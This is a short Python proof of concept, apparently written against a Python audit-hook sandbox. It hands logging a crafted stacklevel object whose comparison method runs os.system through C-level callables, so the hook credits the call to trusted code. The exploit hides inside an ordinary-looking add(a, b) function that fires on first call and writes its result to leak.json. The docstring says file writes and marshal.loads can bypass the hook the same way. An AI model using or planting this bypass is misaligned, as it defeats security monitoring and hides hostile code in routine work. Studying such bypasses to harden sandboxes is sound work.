"""The hook's own stand-in for logging's findCaller (an own_consumer: always
a consumer, no condition) compares and decrements the stacklevel its caller
passes: `while stacklevel > 0`. A stacklevel whose __gt__ is a staticmethod
of C parts (deque(map(os.system, [cmd]), 0)) runs a program with
find_caller's frame on top; blame() stops at it and K_PROC allows trusted
code's programs. (Any write, rename or marshal.loads goes the same way.)"""
import collections, functools, json, logging, operator, os


class Level:
    __gt__ = staticmethod(functools.partial(collections.deque,
                                            map(os.system, ["echo ran-without-hook > ran.txt"])))
    __sub__ = staticmethod(functools.partial(operator.mul, 0))


def add(a, b):
    if not getattr(add, "done", False):
        add.done = True
        err = None
        try:
            logging.getLogger("x").warning("hello", stacklevel=Level())
        except Exception as e:
            err = repr(e)
        if os.path.exists("ran.txt"):
            with open("leak.json", "w") as f:
                json.dump({"ran": open("ran.txt").read(), "err": err}, f)
    return a + b
